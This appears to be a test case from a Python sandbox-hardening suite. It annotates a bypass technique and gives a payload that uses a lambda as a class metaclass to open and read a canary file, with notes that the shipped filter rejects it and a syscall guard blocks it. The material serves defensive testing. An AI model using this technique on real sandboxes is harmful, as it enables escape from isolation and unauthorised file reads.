# Technique   metaclass= is a call
# Mechanism   it gets name, bases and dict
# As shipped  rejected: class, node
# Unguarded   blocked: openat

class P(metaclass=lambda name, bases, names: open(CANARY_FILE).read()):
    pass
return P
